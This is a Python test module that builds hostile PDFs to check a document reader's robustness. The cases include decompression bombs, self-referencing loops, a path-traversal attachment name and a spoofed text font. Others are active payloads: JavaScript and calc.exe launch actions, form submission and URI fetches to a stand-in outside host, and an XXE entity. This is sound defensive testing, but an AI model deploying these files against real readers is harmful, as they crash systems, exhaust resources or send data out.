"""PDF files that explode, loop, lie, act or hide."""

from __future__ import annotations

from collections.abc import Callable
from typing import Unpack

from eval.hostile.case import ANY, CANARY, EITHER, OUTSIDE, PHRASE, PROSE, READ, UNREAD, Case, Expected, Made, Status
from eval.hostile.making.pdfs import FONT, locked, many_pages, one_page, shown, stream, written
from eval.hostile.making.zips import archive, zlib_stream

_MEGABYTE = b"\0" * 1_048_576
_SPACES = b" " * 1_048_576
_FLATE = b"/Filter /FlateDecode"
_ACTION = b"/OpenAction << /S /%s %s >>"


def _flate_bomb() -> bytes:
    return one_page(content_object=stream(zlib_stream(shown(PROSE), _SPACES, 1000), _FLATE))


def _chain() -> bytes:
    import zlib

    inner = zlib_stream(b"", _SPACES, 1000)
    return one_page(content_object=stream(zlib.compress(inner), b"/Filter [/FlateDecode /FlateDecode]"))


def _filters(count: int) -> bytes:
    import zlib

    content = shown(PROSE)
    for _ in range(count):
        content = zlib.compress(content)
    return one_page(content_object=stream(content, b"/Filter [" + b"/FlateDecode " * count + b"]"))


def _picture(entries: bytes, data: bytes = b"\0" * 100, *, text: bytes | None = None) -> bytes:
    content = (shown(PROSE) if text is None else text) + b"q 400 0 0 400 60 60 cm /I Do Q"
    picture = stream(data, b"/Type /XObject /Subtype /Image " + entries)
    return one_page(content, resources=b"/XObject << /I 6 0 R >>", more=[picture])


def _page_tree_loop() -> bytes:
    return written(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R "
            b"/Resources << /Font << /F1 4 0 R >> >> >>",
            FONT,
            stream(shown(PROSE)),
        ]
    )


def _deep_tree() -> bytes:
    depth = 5_000
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    objects += [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (at + 1) for at in range(2, depth)]
    return written([*objects, b"<< /Type /Page /MediaBox [0 0 595 842] >>"])


def _object_stream_bomb() -> bytes:
    """An object stream that says it holds 50 million objects, and unpacks to 500 MB."""
    packed = zlib_stream(b"", b"9 0 " * 262_144, 500)
    entries = b"/Type /ObjStm /N 50000000 /First 100 /Filter /FlateDecode"
    return one_page(more=[stream(packed, entries)], trailer=b"/Extra 6 0 R")


def _form_loop() -> bytes:
    field = b"<< /T (Name) /FT /Tx /V (Filled) /Kids [6 0 R 7 0 R] /Parent 7 0 R >>"
    other = b"<< /T (Other) /Kids [6 0 R] /Parent 6 0 R >>"
    return one_page(catalogue=b"/AcroForm << /Fields [6 0 R 7 0 R] >>", more=[field, other])


def _outline_loop() -> bytes:
    return one_page(
        catalogue=b"/Outlines 6 0 R",
        more=[
            b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
            b"<< /Title (Loop) /Parent 6 0 R /Next 7 0 R /First 7 0 R /Dest [3 0 R /Fit] >>",
        ],
    )


def _xobject_loop() -> bytes:
    form = stream(
        b"/X Do /X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    )
    return one_page(shown(PROSE) + b"/X Do", resources=b"/XObject << /X 6 0 R >>", more=[form])


def _xobject_bomb() -> bytes:
    """Ten forms, each drawing the next ten times: ten billion texts."""
    forms = [
        stream(
            b"/X Do " * 10,
            b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X %d 0 R >> >>" % (7 + at),
        )
        for at in range(10)
    ]
    last = stream(
        shown("ha"), b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >>"
    )
    return one_page(shown(PROSE) + b"/X Do", resources=b"/XObject << /X 6 0 R >>", more=[*forms, last])


def _spoofed() -> bytes:
    """A font whose letters are drawn as one thing and copied as another."""
    mapped = "".join(f"<{code:02x}> <{ord('x'):04x}>\n" for code in range(97, 123))
    table = (
        "/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /S def "
        "1 begincodespacerange <00> <ff> endcodespacerange "
        f"26 beginbfchar\n{mapped}endbfchar endcmap end end"
    ).encode()
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>"
    return written(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R "
            b"/Resources << /Font << /F1 4 0 R >> >> >>",
            font,
            stream(shown(PROSE)),
            stream(table),
        ]
    )


def _attached() -> bytes:
    return one_page(
        catalogue=b"/Names << /EmbeddedFiles << /Names [(a.zip) 6 0 R] >> >>",
        more=[
            b"<< /Type /Filespec /F (../../a.zip) /UF (../../a.zip) /EF << /F 7 0 R >> >>",
            stream(archive({"inside.txt": CANARY.encode()}), b"/Type /EmbeddedFile"),
        ],
    )


def _previous_loop() -> bytes:
    whole = one_page()
    start = whole.rindex(b"xref\n0")
    return one_page(trailer=b"/Prev %d" % start)


def _scan() -> bytes:
    from eval.hostile.making.pictures import written as drawn

    data = drawn(PHRASE, "JPEG")
    return _picture(
        b"/Width 1700 /Height 400 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode", data, text=b""
    )


def _case(
    name: str, made: Callable[[], Made], allowed: frozenset[Status], why: str, path: str = "", **more: Unpack[Expected]
) -> Case:
    return Case(
        name=f"pdf-{name}",
        group="pdf",
        path=path or f"{name}.pdf",
        made=made,
        allowed=allowed,
        why=why,
        **more,
    )


def _active(name: str, catalogue: bytes, why: str) -> Case:
    return _case(name, lambda: one_page(catalogue=catalogue), READ, why, must=(PHRASE,))


_GREY = b"/ColorSpace /DeviceGray /BitsPerComponent 8 "
CASES = (
    _case("flate-bomb-1g", _flate_bomb, EITHER, "1 GB of page content in 1 MB.", quick=False),
    _case("flate-chain", _chain, UNREAD, "1 GB behind two filters, in a few kB.", quick=False),
    _case("flate-chain-short", lambda: _filters(8), EITHER, "Eight filters, lawful."),
    _case("filters-5000", lambda: _filters(5000), EITHER, "5,000 filters in a row.", quick=False),
    _case(
        "runlength-bomb",
        lambda: one_page(
            content_object=stream(zlib_stream(b"", b"\x81 " * 500_000, 16), b"/Filter [/FlateDecode /RunLengthDecode]")
        ),
        UNREAD,
        "1 GB by run lengths.",
        quick=False,
    ),
    _case(
        "lzw-rubbish",
        lambda: one_page(content_object=stream(bytes(i * 7 % 256 for i in range(9000)), b"/Filter /LZWDecode")),
        UNREAD,
        "Compressed rubbish.",
    ),
    _case("pages-10k", lambda: many_pages(10_000), EITHER, "10,000 pages.", quick=False),
    _case("page-tree-loop", _page_tree_loop, EITHER, "A page tree that holds itself."),
    _case("page-tree-deep", _deep_tree, UNREAD, "A page tree 5,000 deep."),
    _case(
        "page-count-lie",
        lambda: one_page().replace(b"/Count 1 ", b"/Count 2000000000 "),
        EITHER,
        "It says it has two billion pages.",
    ),
    _case("xref-loop", _previous_loop, EITHER, "A table of objects that comes before itself."),
    _case(
        "xref-missing",
        lambda: one_page().replace(b"xref", b"xxxx").replace(b"startxxxx", b"startxref"),
        EITHER,
        "No table of objects: readers search for them.",
    ),
    _case(
        "length-lie",
        lambda: one_page(content_object=stream(shown(PROSE), length=2_000_000_000)),
        EITHER,
        "Its content says it is 2 GB long.",
    ),
    _case("length-short", lambda: one_page(content_object=stream(shown(PROSE), length=3)), EITHER, "It says 3 bytes."),
    _case("object-stream-bomb", _object_stream_bomb, EITHER, "500 MB of objects in half a megabyte.", quick=False),
    _case(
        "self-reference",
        lambda: one_page(more=[b"6 0 R"], catalogue=b"/Lang 6 0 R"),
        EITHER,
        "An object that is itself.",
    ),
    _case(
        "deep-arrays",
        lambda: one_page(more=[b"[" * 100_000 + b"]" * 100_000], catalogue=b"/X 6 0 R"),
        EITHER,
        "Arrays 100,000 deep.",
    ),
    _case("xobject-loop", _xobject_loop, EITHER, "A drawing that draws itself.", must=(PHRASE,)),
    _case("xobject-bomb", _xobject_bomb, EITHER, "Ten drawings that draw ten each: ten billion.", quick=False),
    _case("form-loop", _form_loop, EITHER, "Form fields that are each other's parents."),
    _case("outline-loop", _outline_loop, EITHER, "Bookmarks that follow themselves.", must=(PHRASE,)),
    _case("huge-page", lambda: one_page(box=b"0 0 2000000000 2000000000"), EITHER, "A page as wide as a continent."),
    _case("no-page", lambda: one_page(box=b"0 0 0 0"), EITHER, "A page without any size."),
    _case("not-a-number", lambda: one_page(box=b"nan inf -inf 1e999"), EITHER, "A page whose size is no number."),
    _case(
        "pixel-flood",
        lambda: _picture(b"/Width 50000 /Height 50000 " + _GREY + _FLATE, zlib_stream(b"", _MEGABYTE, 100)),
        EITHER,
        "A picture of 2.5 gigapixels.",
    ),
    _case(
        "pixel-flood-only",
        lambda: _picture(b"/Width 50000 /Height 50000 " + _GREY + _FLATE, zlib_stream(b"", _MEGABYTE, 100), text=b""),
        UNREAD,
        "The same on a page without words: recognition of text must not unpack it.",
    ),
    _case(
        "jbig2-rubbish",
        lambda: _picture(b"/Width 100 /Height 100 " + _GREY + b"/Filter /JBIG2Decode", b"\x97JB2" + b"\xff" * 500),
        READ,
        "Rubbish for a decoder with a history of faults.",
        must=(PHRASE,),
    ),
    _case(
        "jpx-rubbish",
        lambda: _picture(b"/Width 100 /Height 100 /Filter /JPXDecode", b"\0\0\0\x0cjP  \r\n\x87\n" + b"\xff" * 500),
        READ,
        "The same for another decoder.",
        must=(PHRASE,),
    ),
    _active("javascript", _ACTION % (b"JavaScript", b"/JS (app.alert\\(1\\);)"), "A program that runs on opening."),
    _active("launch", _ACTION % (b"Launch", b"/F (calc.exe)"), "It starts a program on opening."),
    _active("uri", _ACTION % (b"URI", f"/URI ({OUTSIDE}/open)".encode()), "It fetches on opening."),
    _active("submit", _ACTION % (b"SubmitForm", f"/F ({OUTSIDE}/form)".encode()), "It sends its form on opening."),
    _active("remote", _ACTION % (b"GoToR", f"/F ({OUTSIDE}/other.pdf)".encode()), "It opens another file."),
    _case(
        "xfa-xxe",
        lambda: one_page(
            catalogue=b"/AcroForm << /Fields [] /XFA 6 0 R >>",
            more=[stream(f'<!DOCTYPE x [<!ENTITY a SYSTEM "{OUTSIDE}/xfa">]><x>&a;</x>'.encode())],
        ),
        EITHER,
        "A form in XML that fetches.",
    ),
    _case(
        "attachment",
        _attached,
        READ,
        "A file inside it, under a name that climbs out, must be accounted for.",
        must=(PHRASE,),
        flags=("embedded",),
    ),
    _case("user-password", lambda: locked(user="secret", owner="owner"), UNREAD, "Locked.", flags=("encrypted",)),
    _case(
        "owner-password",
        lambda: locked(user="", owner="owner"),
        READ,
        "Open to read, locked to change.",
        must=(PHRASE,),
    ),
    _case("truncated", lambda: one_page()[: len(one_page()) // 2], UNREAD, "Half of the file."),
    _case("tail-rubbish", lambda: one_page() + b"\xff" * 100_000, EITHER, "Rubbish after its end."),
    _case("head-only", lambda: b"%PDF-1.7\n", UNREAD, "A first line and nothing else."),
    _case(
        "endless-head",
        lambda: b"%PDF-1.7\n" + b"1 0 obj\n" * 500_000,
        UNREAD,
        "Half a million objects that never begin.",
        quick=False,
    ),
    _case("spoofed-text", _spoofed, ANY, "Drawn as words and copied as x's.", quick=False),
    _case("scan", _scan, EITHER, "A picture of a page: read by recognition or named as a picture.", quick=False),
    _case("no-text", lambda: one_page(b""), UNREAD, "A blank page must never be called read."),
    _case(
        "vectors-300k",
        lambda: one_page(shown(PROSE) + b"0 0 m 9 9 l S\n" * 300_000),
        EITHER,
        "300,000 lines drawn.",
        quick=False,
    ),
    _case(
        "grid-bomb",
        lambda: one_page(
            shown(PROSE) + b"".join(b"%d 0 m %d 800 l S 0 %d m 590 %d l S\n" % (x, x, x, x) for x in range(590)) * 3
        ),
        EITHER,
        "Rules drawn close enough for 350,000 cells.",
        quick=False,
    ),
    _case(
        "letters-1m",
        lambda: one_page(shown(PROSE) + b"BT /F1 6 Tf 60 400 Td (" + b"word " * 200_000 + b") Tj ET"),
        EITHER,
        "A million letters on one line.",
        quick=False,
    ),
)
